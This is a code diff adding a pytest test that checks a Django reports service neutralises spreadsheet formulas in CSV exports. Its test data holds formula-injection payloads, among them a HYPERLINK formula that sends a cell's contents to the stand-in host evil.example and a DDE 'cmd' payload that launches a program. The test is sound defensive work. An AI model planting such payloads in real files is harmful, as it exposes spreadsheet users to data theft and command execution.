@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import datetime
 import re
 from decimal import Decimal
 
@@ -7,6 +8,7 @@ import pytest
 from django.test import Client
 
 from orders.models import Customer
+from orders.services import ItemData, order_create, order_status_add
 from reports.csv_export import AS_OF_HEADER
 from reports.params import ERROR_REQUIRED
 from reports.refresh import reports_refresh
@@ -221,3 +223,30 @@ def test_the_catalog_lists_every_report_with_its_freshness(orders_data, client_a
 def test_a_key_bound_to_a_customer_may_read_the_catalog():
     Customer.objects.create(username="bound")
     assert api_client(customer="bound").get("/api/reports/").status_code == 200
+
+
+FORMULAS = {
+    "user": '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "sku": "@SUM(1+1)",
+    "name": "=cmd|' /C calc'!A0",
+}
+
+
+@pytest.mark.django_db
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client_all):
+    customer = Customer.objects.create(username=FORMULAS["user"])
+    order = order_create(
+        customer=customer,
+        order_number="F-1",
+        created_at=datetime.datetime(2025, 1, 1, tzinfo=datetime.UTC),
+        total_amount=Decimal("2.00"),
+        items=[ItemData(FORMULAS["sku"], FORMULAS["name"], 2, Decimal("1.00"))],
+    )
+    order_status_add(order=order, status="Complete")
+    reports_refresh()
+    customers = csv_rows(client_all.get("/api/reports/customers/ranking?format=csv"))
+    assert customers[0]["user"] == "'" + FORMULAS["user"]
+    assert customers[0]["total_revenue"] == "2.00"  # numbers stay numbers
+    products = csv_rows(client_all.get("/api/reports/products/top?format=csv"))
+    assert (products[0]["sku"], products[0]["name"]) == ("'@SUM(1+1)", "'" + FORMULAS["name"])
+    assert products[0]["units_sold"] == "2"
